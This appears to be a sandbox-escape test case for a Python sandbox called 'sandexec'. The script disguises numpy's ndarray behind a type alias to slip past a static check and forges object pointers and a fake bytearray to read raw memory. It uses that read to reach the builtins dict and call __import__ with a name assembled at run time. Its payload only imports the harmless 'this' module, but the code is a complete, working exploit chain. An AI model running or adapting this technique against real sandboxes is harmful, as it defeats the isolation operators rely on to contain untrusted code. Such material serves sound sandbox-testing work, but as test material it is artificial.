# source: numpy ndarray.__new__(shape, dtype, buffer) with object dtype takes 8 bytes as an object pointer (sandexec README, "The static check",'s np.ndarray((1,), object, b)); CPython 3.11 PyFunctionObject layout (func_builtins at +24), bytearray layout, object.__hash__ = rotated address
# family: type alias of a refused class (union collapsing to np.ndarray) called with a buffer: fake bytearray -> read a function's builtins pointer -> builtins dict
# goal: reach the builtins dict from raw memory and call __import__ with a name built at run time: imports the module `this` (prints the Zen of Python)
import numpy as np
Arr = np.ndarray | np.ndarray
M = (1 << 64) - 1
def addr_of(o):
    h = hash(o) & M
    return ((h << 4) | (h >> 60)) & M
def obj_at(p):
    return Arr((1,), object, np.array([p], dtype=np.int64).tobytes())[0]
def word(mem, p):
    return int.from_bytes(bytes(mem[p:p + 8]), "little")
class Box:
    __slots__ = ("a", "b", "c")
def probe():
    return 1
tp = addr_of(bytearray)
fake = np.array([1 << 40, tp, 1 << 62, 1 << 62, 0, 0, 0, 0], dtype=np.int64).tobytes()
box = Box()
box.a = float
box.b = fake
box.c = None
leak = obj_at(addr_of(box) + 8)
fake_addr = int.from_bytes(np.float64(leak).tobytes(), "little")
del leak
mem = obj_at(fake_addr + 32)
builtins_addr = word(mem, addr_of(probe) + 24)
bd = obj_at(builtins_addr)
print("builtins reached from memory:", type(bd).__name__, len(bd), "names")
name = chr(95) * 2 + "import" + chr(95) * 2
mod = bd[name]("th" + "is")
print("imported:", mod)
